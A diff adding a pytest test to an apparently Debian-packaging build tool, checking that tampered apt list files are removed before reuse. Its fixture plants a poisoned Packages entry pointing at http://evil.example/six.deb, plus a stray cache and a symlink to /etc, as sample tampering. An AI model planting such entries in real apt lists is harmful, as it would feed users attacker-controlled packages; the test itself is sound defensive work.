@@ -97,3 +97,28 @@ def test_build_tool_wheels_bring_the_programs_they_run() -> None:
     assert tool_packages(["hatchling"]) == ["python3-installer"]
     assert tool_packages(["meson-python", "meson"]) == ["python3-installer", "ninja-build"]
     assert tool_packages(["scikit_build_core", "Cython"]) == ["python3-installer", "cmake"]
+
+
+def test_a_second_download_reads_only_the_shared_lists(tmp_path: Path) -> None:
+    """What an offline container left in the build's lists (an in-tree backend's hook ran
+    upstream code with them mounted read-write) is gone before apt reads them again: a
+    planted Packages file in another compression, a binary cache, a symlink."""
+    shared = tmp_path / "shared"
+    shared.mkdir()
+    packages = "deb.debian.org_debian_dists_bookworm_main_binary-amd64_Packages"
+    (shared / packages).write_text("Package: six\n")
+    (shared / "pkgcache.bin").write_bytes(b"apt's")
+    release = "deb.debian.org_debian_dists_bookworm_InRelease"
+    (shared / release).write_text("signed")
+    image = Image(target=TARGET, kind="builder", tag="t", state_dir=tmp_path / "state")
+    deb = DebianBuild(engine=Engine(name="podman"), image=image, work=tmp_path / "work",
+                      project="x", apt_cache=tmp_path / "apt", apt_lists=shared)
+    (deb.lists / packages).write_text("Package: six\nFilename: http://evil.example/six.deb\n")
+    (deb.lists / f"{packages}.lz4").write_bytes(b"planted")
+    (deb.lists / "srcpkgcache.bin").write_bytes(b"planted")
+    (deb.lists / "etc").symlink_to("/etc")
+    deb.reset_lists()
+    assert sorted(p.name for p in deb.lists.iterdir()) == [release, packages, "partial",
+                                                           "pkgcache.bin"]
+    assert (deb.lists / packages).read_text() == "Package: six\n"
+    assert Path("/etc").is_dir()
